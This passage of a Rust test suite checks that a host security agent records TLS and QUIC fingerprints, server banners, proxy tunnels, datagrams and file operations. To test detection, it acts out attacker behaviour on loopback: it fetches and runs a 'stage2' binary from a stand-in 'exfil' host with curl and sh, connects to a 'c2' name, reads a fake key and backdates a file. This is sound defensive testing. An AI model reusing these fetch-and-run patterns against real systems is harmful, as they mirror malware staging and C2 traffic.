        .args(["req", "-x509", "-newkey", "ec", "-pkeyopt"])
        .args(["ec_paramgen_curve:prime256v1", "-nodes", "-days", "1"])
        .args(["-subj", "/CN=localhost", "-keyout"])
        .arg(&key)
        .arg("-out")
        .arg(&cert)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .expect("openssl (scripts/deps installs it)");
    assert!(made.success());
    let mut agent = Agent::start("");
    let detail = agent.source_detail("ebpf");
    assert!(detail.contains("servers' answers"), "{detail}");
    let mut server = Proc::spawn(
        Command::new("openssl")
            .args([
                "s_server",
                "-accept",
                "127.0.0.1:0",
                "-www",
                "-alpn",
                "http/1.1",
            ])
            .arg("-cert")
            .arg(&cert)
            .arg("-key")
            .arg(&key)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::null()),
    );
    let server_pid = u64::from(server.pid());
    let mut lines = BufReader::new(server.child.stdout.take().unwrap()).lines();
    let port: u16 = loop {
        let line = lines.next().expect("s_server's ACCEPT line").unwrap();
        if let Some(port) = line.strip_prefix("ACCEPT 127.0.0.1:") {
            break port.trim().parse().unwrap();
        }
    };
    let url = format!("https://127.0.0.1:{port}/");
    let fetch = |suite: &[&str]| {
        let curl = Command::new("curl")
            .args(["-sk", "--max-time", "10", "-o", "/dev/null"])
            .args(suite)
            .arg(&url)
            .stdin(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("curl (scripts/deps installs it)");
        let pid = u64::from(curl.id());
        assert!(curl.wait_with_output().unwrap().status.success());
        pid
    };
    let tls12 = fetch(&[
        "--tls-max",
        "1.2",
        "--ciphers",
        "ECDHE-ECDSA-AES128-GCM-SHA256",
    ]);
    let tls13 = fetch(&[
        "--tlsv1.3",
        "--tls13-ciphers",
        "TLS_CHACHA20_POLY1305_SHA256",
    ]);
    let events = agent.wait_for("the server's hellos, both ways", |ev| {
        has(ev, "tls_server_hello", |e| pid_of(e) == tls12)
            && has(ev, "tls_server_hello", |e| pid_of(e) == tls13)
            && ev
                .iter()
                .filter(|e| action(e) == "tls_server_hello_sent" && pid_of(e) == server_pid)
                .count()
                == 2
    });
    let ja3s_of = |text: &str| -> String {
        use md5::Digest;
        md5::Md5::digest(text.as_bytes())
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect()
    };
    for (client, version, cipher, number, protocol) in [
        (
            tls12,
            "1.2",
            "TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256",
            0xc02b,
            Some("http/1.1"),
        ),
        // TLS 1.3 sends its protocol's choice encrypted, after the hello.
        (tls13, "1.3", "TLS_CHACHA20_POLY1305_SHA256", 0x1303, None),
    ] {
        let got = the(
            &events,
            "tls_server_hello",
            "the server's hello, to curl",
            |e| pid_of(e) == client,
        );
        let tls = &got["tls"];
        assert_eq!(tls["version"], version, "{got}");
        assert_eq!(tls["cipher"], cipher, "{got}");
        assert_eq!(tls["next_protocol"].as_str(), protocol, "{got}");
        let text = got["warden"]["network"]["ja3s_text"].as_str().unwrap();
        // The hello's own version (1.2's number, also in TLS 1.3), its suite, its extensions.
        assert!(text.starts_with(&format!("771,{number},")), "{got}");
        assert_eq!(tls["server"]["ja3s"], ja3s_of(text).as_str(), "{got}");
        assert_eq!(got["network"]["direction"], "ingress", "{got}");
        assert_eq!(got["network"]["protocol"], "tls", "{got}");
        assert_eq!(got["source"]["port"], port, "{got}");
        let curl_port = got["destination"]["port"].clone();
        let sent = the(
            &events,
            "tls_server_hello_sent",
            "the server's hello",
            |e| pid_of(e) == server_pid && e["destination"]["port"] == curl_port,
        );
        assert_eq!(sent["tls"], *tls, "{sent}");
        assert_eq!(sent["network"]["direction"], "egress", "{sent}");
        assert_eq!(sent["source"]["port"], port, "{sent}");
    }
    let rows = agent.query_rows(&format!(
        "SELECT tls_version, tls_cipher, tls_alpn, length(ja3s) FROM socket_events \
         WHERE pid = {server_pid} AND action = 'tls_server_hello_sent' ORDER BY tls_version"
    ));
    assert_eq!(
        rows,
        [
            "1.2,TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256,http/1.1,32",
            "1.3,TLS_CHACHA20_POLY1305_SHA256,,32",
        ]
    );
    let pid_text = server_pid.to_string();
    let xml = agent.events_output(&["--pid", &pid_text, "--class", "tls"], "xml");
    let doc = roxmltree::Document::parse(&xml).expect("valid XML");
    let chosen: Vec<&str> = doc
        .descendants()
        .filter(|n| n.has_tag_name("tls"))
        .filter_map(|n| n.attribute("cipher"))
        .collect();
    assert_eq!(chosen.len(), 2, "{xml}");
    drop(server);
    agent.stop();
    kernel.check();
}

/// A server that speaks first is named by its greeting, both ways: the SMTP-like greeting this
/// test's server sends as it accepts, as its client here received it (`server_banner`, the
/// server the source) and as the server sent it (`server_banner_sent`), in the text and SQL.
#[test]
fn a_servers_greeting_is_recorded_both_ways() {
    use std::io::{BufRead, BufReader, Read, Write};
    let Some((_serial, kernel)) = begin("a_servers_greeting_is_recorded_both_ways") else {
        return;
    };
    let mut agent = Agent::start("");
    let greeting = "220 mail.warden.example ESMTP WardenTest";
    let listener = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    let serving = std::thread::spawn(move || {
        let (mut conn, _) = listener.accept().unwrap();
        conn.write_all(format!("{greeting}\r\n").as_bytes())
            .unwrap();
        let _ = conn.read(&mut [0u8; 64]);
    });
    let conn = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    let client_port = conn.local_addr().unwrap().port();
    let mut line = String::new();
    BufReader::new(&conn).read_line(&mut line).unwrap();
    assert_eq!(line.trim_end(), greeting);
    drop(conn);
    serving.join().unwrap();
    let me = u64::from(std::process::id());
    let events = agent.wait_for("the greeting, both ways", |ev| {
        has(ev, "server_banner", |e| pid_of(e) == me)
            && has(ev, "server_banner_sent", |e| pid_of(e) == me)
    });
    for (act, direction, source, destination) in [
        ("server_banner", "ingress", port, client_port),
        ("server_banner_sent", "egress", port, client_port),
    ] {
        let got = the(&events, act, "the greeting", |e| {
            pid_of(e) == me && e["destination"]["port"] == client_port
        });
        assert_eq!(got["warden"]["network"]["banner"], greeting, "{got}");
        assert_eq!(got["network"]["direction"], direction, "{got}");
        assert_eq!(got["source"]["port"], source, "{got}");
        assert_eq!(got["destination"]["port"], destination, "{got}");
        assert_eq!(got["event"]["type"][0], "protocol", "{got}");
        assert_eq!(got["network"]["protocol"], "smtp", "{got}");
    }
    let pid_text = me.to_string();
    let text = agent.events_output(&["--pid", &pid_text, "--class", "server_banner"], "text");
    assert!(text.contains(&format!("banner={greeting:?}")), "{text}");
    let rows = agent.query_rows(&format!(
        "SELECT action, banner FROM socket_events WHERE pid = {me} \
         AND action LIKE 'server_banner%' ORDER BY action"
    ));
    assert_eq!(
        rows,
        [
            format!("server_banner,{greeting}"),
            format!("server_banner_sent,{greeting}"),
        ]
    );
    agent.stop();
    kernel.check();
}

/// A connection's later requests are events too: curl's second request on its keep-alive
/// connection, and through an HTTP proxy the CONNECT and then the TLS hello inside the tunnel,
/// which names the server behind the proxy and the client's fingerprint.
#[test]
fn later_requests_and_tunnelled_hellos_are_recorded() {
    use std::io::{BufRead, BufReader, Read, Write};
    let Some((_serial, kernel)) = begin("later_requests_and_tunnelled_hellos_are_recorded") else {
        return;
    };
    let mut agent = Agent::start("");
    // A web server answering two requests on one connection, and a proxy that opens a tunnel,
    // reads the hello through it and hangs up.
    let web = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let proxy = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let (web_port, proxy_port) = (
        web.local_addr().unwrap().port(),
        proxy.local_addr().unwrap().port(),
    );
    let serving = std::thread::spawn(move || {
        let (conn, _) = web.accept().unwrap();
        let mut reader = BufReader::new(conn);
        for _ in 0..2 {
            let mut line = String::new();
            while reader.read_line(&mut line).unwrap() > 0 && line != "\r\n" {
                line.clear();
            }
            reader
                .get_mut()
                .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
                .unwrap();
        }
        let (conn, _) = proxy.accept().unwrap();
        let mut reader = BufReader::new(conn);
        let mut line = String::new();
        while reader.read_line(&mut line).unwrap() > 0 && line != "\r\n" {
            line.clear();
        }
        let mut conn = reader.into_inner();
        conn.write_all(b"HTTP/1.1 200 Connection established\r\n\r\n")
            .unwrap();
        let _ = conn.read(&mut [0u8; 4096]);
    });
    let curl = |args: &[String]| {
        let child = Command::new("curl")
            .args(["-sk", "--max-time", "10"])
            .args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("curl (scripts/deps installs it)");
        let pid = u64::from(child.id());
        (pid, child.wait_with_output().unwrap())
    };
    let url = |path: &str| format!("http://files.exfil.example:{web_port}{path}");
    let (web_pid, fetched) = curl(&[
        "--resolve".into(),
        format!("files.exfil.example:{web_port}:127.0.0.1"),
        url("/first"),
        url("/second"),
    ]);
    assert_eq!(fetched.stdout, b"okok");
    let (proxied_pid, _) = curl(&[
        "--proxy".into(),
        format!("http://127.0.0.1:{proxy_port}"),
        "https://c2.exfil.example/".into(),
    ]);
    serving.join().unwrap();
    let of = |events: &[Value], act: &str, pid: u64| -> Vec<Value> {
        events
            .iter()
            .filter(|e| pid_of(e) == pid && e["event"]["action"] == act)
            .cloned()
            .collect()
    };
    let me = u64::from(std::process::id());
    let events = agent.wait_for("curl's requests and the tunnel's hello", |ev| {
        of(ev, "http_request", web_pid).len() == 2
            && has(ev, "http_request", |e| pid_of(e) == proxied_pid)
            && has(ev, "tls_hello", |e| pid_of(e) == proxied_pid)
            && of(ev, "http_response", web_pid).len() == 2
            && of(ev, "http_response_sent", me).len() >= 2
            && has(ev, "http_response", |e| pid_of(e) == proxied_pid)
    });
    // The web server's answer to each request on the connection, as curl received it and as
    // this test's server sent it (the later one a later segment's, keep-alive's).
    let requests = of(&events, "http_request", web_pid);
    for answers in [
        of(&events, "http_response", web_pid),
        of(&events, "http_response_sent", me)
            .into_iter()
            .filter(|e| e["source"]["port"] == web_port)
            .collect(),
    ] {
        assert_eq!(answers.len(), 2, "{answers:#?}");
        for answer in &answers {
            assert_eq!(answer["http"]["response"]["status_code"], 200, "{answer}");
            assert_eq!(answer["http"]["response"]["body"]["bytes"], 2, "{answer}");
            // Either way the client is the destination: the bytes went to it.
            assert_eq!(
                answer["destination"]["port"], requests[0]["source"]["port"],
                "{answer}"
            );
        }
    }
    // The proxy's answer to the CONNECT; nothing after it, inside the tunnel, is read.
    let established = of(&events, "http_response", proxied_pid);
    assert_eq!(established.len(), 1, "{established:#?}");
    assert_eq!(
        established[0]["warden"]["network"]["http_response"]["reason"],
        "Connection established"
    );
    let mut urls: Vec<&str> = events
        .iter()
        .filter(|e| pid_of(e) == web_pid && e["event"]["action"] == "http_request")
        .map(|e| e["url"]["full"].as_str().unwrap())
        .collect();
    urls.sort_unstable();
    assert_eq!(urls, [url("/first"), url("/second")]);
    let connect = the(&events, "http_request", "the proxy's CONNECT", |e| {
        pid_of(e) == proxied_pid
    });
    assert_eq!(connect["http"]["request"]["method"], "CONNECT", "{connect}");
    assert_eq!(connect["destination"]["port"], proxy_port, "{connect}");
    let hello = the(&events, "tls_hello", "the tunnel's hello", |e| {
        pid_of(e) == proxied_pid
    });
    assert_eq!(
        hello["tls"]["client"]["server_name"], "c2.exfil.example",
        "{hello}"
    );
    // Over the connection to the proxy: the same ends as the CONNECT.
    assert_eq!(hello["destination"]["port"], proxy_port, "{hello}");
    assert_eq!(
        hello["source"]["port"], connect["source"]["port"],
        "{hello}"
    );
    assert!(
        hello["tls"]["client"]["ja4"]
            .as_str()
            .is_some_and(|ja4| ja4.starts_with("t13d")),
        "{hello}"
    );
    agent.stop();
    kernel.check();
}

/// QUIC connections (HTTP/3's) name what they asked for too: each of the actor's three, whose
/// ClientHello took two Initial datagrams and whose first Initial went again, is one
/// `tls_hello` over UDP with its server name, h3 and a QUIC JA4, in the JSON, the text and SQL;
/// each client socket's end carries the name; the status says QUIC hellos are read.
#[test]
fn quic_hellos_name_what_an_http3_connection_asked_for() {
    let Some((_serial, kernel)) = begin("quic_hellos_name_what_an_http3_connection_asked_for")
    else {
        return;
    };
    let mut agent = Agent::start("");
    let report = spawn_actor_to_end(&["quic-storm", "/", "3"]);
    let pid = report["pid"].as_u64().unwrap();
    let port = report["port"].as_u64().unwrap();
    let hello_of = |name: String| {
        move |e: &Value| pid_of(e) == pid && e["tls"]["client"]["server_name"] == name.as_str()
    };
    let events = agent.wait_for("the actor's three QUIC hellos", |ev| {
        (0..3).all(|i| has(ev, "tls_hello", hello_of(format!("q{i}.storm.example"))))
    });
    // Each once, though its first Initial went twice.
    let hellos: Vec<&Value> = events
        .iter()
        .filter(|e| pid_of(e) == pid && e["event"]["action"] == "tls_hello")
        .collect();
    assert_eq!(hellos.len(), 3, "{hellos:#?}");
    let mut ja4s = Vec::new();
    for i in 0..3 {
        let name = format!("q{i}.storm.example");
        let hello = the(&events, "tls_hello", "a QUIC hello", hello_of(name.clone()));
        assert_eq!(hello["network"]["transport"], "udp", "{hello}");
        assert_eq!(hello["network"]["direction"], "egress", "{hello}");
        assert_eq!(hello["destination"]["ip"], "127.0.0.1", "{hello}");
        assert_eq!(hello["destination"]["port"], port, "{hello}");
        assert_eq!(hello["destination"]["domain"], name.as_str(), "{hello}");
        assert_eq!(hello["tls"]["version"], "1.3", "{hello}");
        assert_eq!(
            hello["warden"]["network"]["alpn"],
            serde_json::json!(["h3"])
        );
        let ja4 = hello["tls"]["client"]["ja4"].as_str().unwrap();
        // QUIC ('q'), TLS 1.3, a server name, four cipher suites, eight extensions, h3.
        assert!(ja4.starts_with("q13d0408h3_") && ja4.len() == 36, "{hello}");
        ja4s.push(ja4.to_owned());
    }
    ja4s.dedup();
    assert_eq!(ja4s.len(), 1, "one client, one fingerprint: {ja4s:?}");
    let text = agent.events_output(&["--pid", &pid.to_string(), "--class", "tls"], "text");
    assert_eq!(text.lines().count(), 3, "{text}");
    assert!(
        text.contains(&format!(
            "sni=q1.storm.example tls=1.3 alpn=h3 ja4={}",
            ja4s[0]
        )),
        "{text}"
    );
    let rows = agent.query_rows(&format!(
        "SELECT transport, remote_port, tls_server_name, ja4 FROM socket_events \
         WHERE pid = {pid} AND action = 'tls_hello' ORDER BY tls_server_name"
    ));
    assert_eq!(
        rows,
        (0..3)
            .map(|i| format!("udp,{port},q{i}.storm.example,{}", ja4s[0]))
            .collect::<Vec<_>>()
    );
    // Each client socket's end carries the name its hello asked for, with its three
    // Initials' bytes.
    agent.wait_for_explained(
        &[],
        "the client sockets' ends",
        DEADLINE,
        |ev| {
            ev.iter()
                .filter(|e| {
                    pid_of(e) == pid
                        && e["event"]["action"] == "close"
                        && e["network"]["direction"] == "egress"
                        && e["destination"]["port"] == port
                })
                .count()
                == 3
        },
        |ev| {
            let ends: Vec<&Value> = ev
                .iter()
                .filter(|e| pid_of(e) == pid && e["event"]["action"] == "close")
                .collect();
            format!("{ends:#?}")
        },
    );
    let rows = agent.query_rows(&format!(
        "SELECT remote_domain, bytes_sent FROM socket_events WHERE pid = {pid} \
         AND action = 'close' AND direction = 'egress' AND remote_port = {port} \
         ORDER BY remote_domain"
    ));
    assert_eq!(
        rows,
        (0..3)
            .map(|i| format!("q{i}.storm.example,3600"))
            .collect::<Vec<_>>()
    );
    let status = agent.status();
    let ebpf = status_source(&status, "ebpf").expect("the ebpf source");
    let detail = ebpf["detail"].as_str().unwrap();
    assert!(detail.contains("QUIC"), "{detail}");
    agent.stop();
    kernel.check();
}

/// A binary curl fetched over HTTP (which sets no download origin of its own), made
/// executable and run: its write and its exec carry the URL curl fetched as their download
/// origin, in the JSON and in `process_events`. File changes from fanotify (the default).
#[test]
fn a_fetched_binary_carries_the_url_it_came_from() {
    fetched_binary_carries_its_url(
        "a_fetched_binary_carries_the_url_it_came_from",
        "",
        Saved::ByCurl,
    );
}

/// The same with file changes from eBPF, whose close comes in the exec's own ring.
#[test]
fn a_fetched_binary_carries_its_url_with_ebpf_files() {
    fetched_binary_carries_its_url(
        "a_fetched_binary_carries_its_url_with_ebpf_files",
        "source = \"ebpf\"\n",
        Saved::ByCurl,
    );
}

/// The same where a shell saves what curl fetched (`sh -c 'curl URL > x'`): the shell opens
/// the file and closes it last, curl writes it.
#[test]
fn a_binary_a_shell_saved_from_curl_carries_its_url() {
    fetched_binary_carries_its_url(
        "a_binary_a_shell_saved_from_curl_carries_its_url",
        "",
        Saved::ByShell,
    );
}

/// Who saves what curl fetches.
#[derive(PartialEq)]
enum Saved {
    /// curl itself (`-o`).
    ByCurl,
    /// A shell's redirection of curl's output.
    ByShell,
}

fn fetched_binary_carries_its_url(test: &str, files: &str, saved: Saved) {
    use std::io::{Read, Write};
    use std::os::unix::fs::PermissionsExt;
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let mut agent = Agent::start(&format!("[files]\n{files}"));
    let work = tempfile::tempdir().unwrap();
    let target = std::fs::canonicalize(work.path()).unwrap().join("stage2");
    // A server of our own, on loopback, that answers one request with /bin/true's bytes.
    let body = std::fs::read("/bin/true").unwrap();
    let server = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = server.local_addr().unwrap().port();
    let serving = std::thread::spawn(move || {
        let (mut conn, _) = server.accept().unwrap();
        let mut request = [0u8; 4096];
        let _ = conn.read(&mut request);
        let head = format!(
            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
            body.len()
        );
        conn.write_all(head.as_bytes()).unwrap();
        conn.write_all(&body).unwrap();
    });
    let url = format!("http://files.exfil.example:{port}/stage2");
    let resolve = format!("files.exfil.example:{port}:127.0.0.1");
    let fetched = match saved {
        Saved::ByCurl => Command::new("curl")
            .args(["-sf", "--max-time", "10", "--resolve", &resolve, "-o"])
            .arg(&target)
            .arg(&url)
            .status(),
        Saved::ByShell => Command::new("sh")
            .arg("-c")
            .arg(format!(
                "curl -sf --max-time 10 --resolve {resolve} {url} > {}; true",
                s(&target)
            ))
            .status(),
    }
    .expect("curl (scripts/deps installs it)");
    assert!(fetched.success());
    serving.join().unwrap();
    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o755)).unwrap();
    assert!(Command::new(&target).status().unwrap().success());
    let path = s(&target);
    let events = agent.wait_for_matching(&["--path", &path], "the download and its run", |ev| {
        has(ev, "close_write", |e| file_path(e) == path)
            && has(ev, "exec", |e| e["process"]["executable"] == path.as_str())
    });
    let written = the(&events, "close_write", "the download", |e| {
        file_path(e) == path
    });
    let closer = if saved == Saved::ByCurl { "curl" } else { "sh" };
    assert_eq!(written["process"]["name"], closer, "{written}");
    assert_eq!(
        written["warden"]["file"]["content"]["origin_url"],
        url.as_str(),
        "{written}"
    );
    let run = the(&events, "exec", "its run", |e| {
        e["process"]["executable"] == path.as_str()
    });
    assert_eq!(
        run["warden"]["executable"]["origin_url"],
        url.as_str(),
        "{run}"
    );
    let rows = agent.query_rows(&format!(
        "SELECT origin_url FROM process_events WHERE path = '{path}'"
    ));
    assert_eq!(rows, [url.as_str()]);
    agent.stop();
    kernel.check();
}

fn unconnected_datagrams_are_recorded(test: &str, network: &str, syscall: Option<&str>) {
    use std::net::UdpSocket;
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let mut agent = Agent::start(&format!("[network]\n{network}\n"));
    if syscall.is_none() {
        let status = agent.status();
        let ebpf = status_source(&status, "ebpf").expect("the ebpf source");
        let detail = ebpf["detail"].as_str().unwrap();
        assert!(
            detail.contains("first datagram to or from each peer"),
            "{detail}"
        );
    }
    let udp = UdpSocket::bind(("127.0.0.1", 0)).unwrap();
    let port = u64::from(udp.local_addr().unwrap().port());
    let (mut actor, report) = spawn_actor(&["datagram"], &[("UDP", port.to_string())]);
    let mut buf = [0u8; 16];
    let (n, from) = udp.recv_from(&mut buf).unwrap();
    assert_eq!(
        (&buf[..n], u64::from(from.port())),
        (&b"d"[..], report["port"].as_u64().unwrap())
    );
    let pid = u64::from(actor.pid());
    let me = u64::from(std::process::id());
    let events = agent.wait_for("the datagram at both ends", |ev| {
        has(ev, "send", |e| {
            pid_of(e) == pid && port_of(&e["destination"]) == port
        }) && has(ev, "receive", |e| {
            pid_of(e) == me && e["source"]["port"] == report["port"]
        })
    });
    let sent = the(&events, "send", "the datagram", |e| {
        pid_of(e) == pid && port_of(&e["destination"]) == port
    });
    assert_eq!(sent["network"]["transport"], "udp", "{sent}");
    assert_eq!(sent["network"]["direction"], "egress");
    assert_eq!(sent["warden"]["syscall"].as_str(), syscall, "{sent}");
    assert_eq!(sent["event"]["outcome"], "success", "{sent}");
    let received = the(&events, "receive", "the datagram", |e| pid_of(e) == me);
    assert_eq!(received["network"]["direction"], "ingress");
    actor.child.stdin.take();
    assert!(actor.wait().success());
    agent.stop();
    kernel.check();
}

fn file_path(e: &Value) -> &str {
    e["file"]["path"].as_str().unwrap_or_default()
}

/// The actor's file operations, as recorded with `files.source = source`: each with its path
/// (old and new for renames), the actor's identity, and the fake credential's read labelled.
/// `process`: the process source (`auto`: eBPF here; `audit`: as where eBPF cannot load, which
/// with fanotify also makes audit rules tell chmod and chown apart).
fn file_changes_are_recorded(test: &str, source: &str, process: &str) {
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let work = tempfile::tempdir().unwrap();
    let dir = work.path().join("tree");
    std::fs::create_dir(&dir).unwrap();
    let vault = work.path().join("vault");
    std::fs::create_dir(&vault).unwrap();
    let secret = vault.join("id_fake");
    std::fs::write(&secret, b"not a real key\n").unwrap();
    let mut agent = Agent::start(&format!(
        "[sources]\nprocess = {process:?}\n[network]\nenabled = false\n[files]\n\
         source = {source:?}\nwatch_paths = [{:?}]\n",
        s(&vault)
    ));
    if source == "ebpf" {
        let status = agent.status();
        let ebpf = status_source(&status, "ebpf").expect("the ebpf source");
        assert_eq!(ebpf["active"], true, "{status}");
        let detail = ebpf["detail"].as_str().unwrap();
        assert!(
            detail.contains("file changes from the file calls' tracepoints"),
            "{detail}"
        );
        let fanotify = status_source(&status, "fanotify").expect("fanotify for the reads");
        assert_eq!(fanotify["active"], true, "{status}");
        let detail = fanotify["detail"].as_str().unwrap();
        assert!(detail.starts_with("reads of "), "{detail}");
    }
    let (mut actor, report) = spawn_actor(&["files", &s(&dir), &s(&secret)], &[]);
    let pid = u64::from(actor.pid());
    let actor_entity = entity(actor.pid(), start_ticks(actor.pid()));
    assert_eq!(report["secret_len"], 15);
    let p = |rel: &str| s(&dir.join(rel));
    let pid_arg = pid.to_string();
    let events = agent.wait_for_matching(&["--pid", &pid_arg], "the actor's file events", |ev| {
        has(ev, "rename", |e| {
            pid_of(e) == pid && file_path(e) == p("sub/c.txt")
        }) && has(ev, "delete", |e| {
            pid_of(e) == pid && file_path(e) == p("sub")
        }) && has(ev, "read", |e| {
            pid_of(e) == pid && file_path(e) == s(&secret)
        }) && has(ev, "chmod", |e| {
            // Beside fanotify the chmod comes from another source (eBPF or audit), on its own
            // queue: it may be stored after the later changes fanotify reported.
            pid_of(e) == pid && file_path(e) == p("sub/c.txt")
        })
    });
    let mine: Vec<&Value> = events
        .iter()
        .filter(|e| pid_of(e) == pid && e["event"]["category"][0] == "file")
        .collect();
    assert!(mine.len() >= 12, "{mine:?}");
    for e in &mine {
        assert_eq!(entity_of(e), actor_entity, "{e}");
        // With fanotify, chmod, chown, links and symlinks come from their calls: eBPF's
        // tracepoints, or audit rules where the process source is audit (no eBPF); truncates
        // from eBPF's.
        let told_by_call = source == "fanotify"
            && match action(e) {
                "chmod" | "chown" | "link" | "symlink" | "times" => true,
                "truncate" => process != "audit",
                _ => false,
            };
        let want = match (told_by_call, process) {
            (true, "audit") => "audit",
            (true, _) => "ebpf",
            // Beside eBPF's file changes, the watched paths' reads come from fanotify's marks.
            (false, _) if source == "ebpf" && action(e) == "read" => "fanotify",
            (false, _) => source,
        };
        assert_eq!(e["warden"]["source"], want, "{e}");
        assert!(file_path(e).starts_with(&s(work.path())), "{e}");
    }
    let one = |act: &str, path: &str| {
        the(&events, act, &format!("{act} {path}"), |e| {
            pid_of(e) == pid && file_path(e) == path
        })
        .clone()
    };
    let created = one("create", &p("a.txt"));
    assert_eq!(created["event"]["type"][0], "creation");
    let renamed = one("rename", &p("b.txt"));
    assert_eq!(renamed["warden"]["file"]["old_path"], p("a.txt").as_str());
    let moved = one("rename", &p("sub/c.txt"));
    assert_eq!(moved["warden"]["file"]["old_path"], p("b.txt").as_str());
    assert_eq!(moved["file"]["name"], "c.txt");
    let mkdir = one("create", &p("sub"));
    assert_eq!(mkdir["file"]["type"], "dir");
    // Audit rules and eBPF see the calls themselves; fanotify sees what they changed, and
    // beside it eBPF's tracepoints or audit rules at link and symlink (and eBPF's at truncate)
    // tell those apart.
    let symlink = one("symlink", &p("link"));
    assert_eq!(symlink["file"]["target_path"], "sub/c.txt", "{symlink}");
    for gone in ["hard", "link", "sub/c.txt"] {
        let deleted = one("delete", &p(gone));
        assert_eq!(deleted["event"]["type"][0], "deletion");
    }
    assert_eq!(one("delete", &p("sub"))["file"]["type"], "dir");
    // Audit rules, and with fanotify the calls' eBPF tracepoints, tell a chmod apart.
    let chmod = one("chmod", &p("sub/c.txt"));
    assert_eq!(chmod["file"]["mode"], "0600");
    assert_eq!(chmod["event"]["outcome"], "success", "{chmod}");
    // Made to look old: eBPF's tracepoints tell the times set (audit's rules have none).
    let attrib_of_c = has(&events, "attrib", |e| {
        pid_of(e) == pid && file_path(e) == p("sub/c.txt")
    });
    if process == "audit" || source == "audit" {
        // fanotify's "metadata changed" is all that says it (merged in the kernel's queue
        // with the chmod's, which audit told, it is not recorded at all).
        assert!(!has(&events, "times", |e| pid_of(e) == pid));
    } else {
        let times = one("times", &p("sub/c.txt"));
        assert_eq!(
            times["warden"]["file"]["times"],
            serde_json::json!({"modified": "2019-01-01T00:00:00.000000000Z"}),
            "{times}"
        );
        assert_eq!(times["warden"]["syscall"], "utimensat");
        // fanotify's own "metadata changed" of the chmod and of the times is not recorded
        // twice (nor of the link count the hard link changed, where eBPF tells the link).
        assert!(!attrib_of_c);
    }
    // Syscall rules and eBPF tell each change apart, with the link target.
    assert_eq!(
        one("link", &p("hard"))["file"]["target_path"],
        p("sub/c.txt").as_str()
    );
    if source == "fanotify" {
        // fanotify's "created" of the link is not recorded beside it.
        assert!(!has(&events, "create", |e| pid_of(e) == pid
            && file_path(e) == p("hard")));
    }
    if source == "fanotify" && process == "audit" {
        // Without eBPF, truncate(2) stays fanotify's modification.
        assert!(has(&events, "modify", |e| pid_of(e) == pid
            && file_path(e) == p("hard")));
    } else {
        assert_eq!(one("truncate", &p("hard"))["warden"]["syscall"], "truncate");
        if source == "fanotify" {
            // fanotify's "modified" of it is not recorded beside it.
            assert!(!has(&events, "modify", |e| pid_of(e) == pid
                && file_path(e) == p("hard")));
        }
    }
    let read = one("read", &s(&secret));
    assert_eq!(read["event"]["type"][0], "access");
    assert_eq!(read["warden"]["file"]["watch"], "configured");

    // BSM classes over the same store: fr is the read, fd the deletions and renames.
    let fr = agent.events(&["--class", "fr", "--pid", &pid.to_string()]);
    assert!(
        !fr.is_empty() && fr.iter().all(|e| action(e) == "read"),
        "{fr:?}"
    );
    let fd = agent.events(&["--class", "fd", "--pid", &pid.to_string()]);
    assert!(fd.iter().all(|e| matches!(action(e), "delete" | "rename")));
    assert_eq!(
        fd.iter().filter(|e| action(e) == "rename").count(),
        2,
        "{fd:?}"
    );
    let moves = agent.events(&["--path", &p("b.txt"), "--class", "fc"]);
    assert_eq!(moves.len(), 2, "b.txt as new and as old name: {moves:?}");

    // A refused chmod: nobody may not change root's file. Audit rules see the failed call;
    // with fanotify (which sees only changes made) the call's eBPF tracepoint does.
    let refused = work.path().join("refused.txt");
    std::fs::write(&refused, b"x").unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        use std::os::unix::process::CommandExt;
        std::fs::set_permissions(work.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        let status = Command::new("/bin/chmod")
            .arg("777")
            .arg(&refused)
            .uid(65534)
            .stderr(Stdio::null())
            .status()
            .unwrap();
        assert!(!status.success());
    }
    let refused_s = s(&refused);
    let failures =
        agent.wait_for_matching(&["--failure", "--class", "fm"], "the refused chmod", |ev| {
            has(ev, "chmod", |e| file_path(e) == refused_s)
        });
    let denied = the(&failures, "chmod", "the refused chmod", |e| {
        file_path(e) == refused_s
    });
    assert_eq!(denied["event"]["outcome"], "failure", "{denied}");
    assert_eq!(denied["file"]["mode"], "0777", "{denied}");
    assert_eq!(denied["user"]["id"], "65534", "{denied}");

    actor.child.stdin.take();
    assert!(actor.wait().success());
    // The agent never records its own writes (its store is on this filesystem too).
    agent.stop();
    let own = agent.events(&["--pid", &agent.pid().to_string()]);
    assert!(own.is_empty(), "the agent recorded itself: {own:?}");
    kernel.check();
}

#[test]
fn file_changes_are_recorded_with_fanotify() {
    file_changes_are_recorded(
        "file_changes_are_recorded_with_fanotify",
        "fanotify",
        "auto",
    );
}

/// Where eBPF cannot run, chmod, chown, links and symlinks beside fanotify come from audit rules
/// instead.
#[test]
fn file_changes_are_recorded_with_fanotify_and_audit_execs() {
    file_changes_are_recorded(
        "file_changes_are_recorded_with_fanotify_and_audit_execs",
        "fanotify",
        "audit",
    );
}

/// Beside fanotify, which says "created" of a link and "modified" of a truncate, eBPF's
/// tracepoints at those calls tell them apart (with a refused attempt too), and fanotify's
/// own report of each is not recorded beside them.
#[test]
fn links_and_truncates_are_told_apart_beside_fanotify() {
    links_told_apart("links_and_truncates_are_told_apart_beside_fanotify", "auto");
}

/// Where eBPF cannot run, audit rules at link and symlink do (truncates stay fanotify's
/// modifications).
#[test]
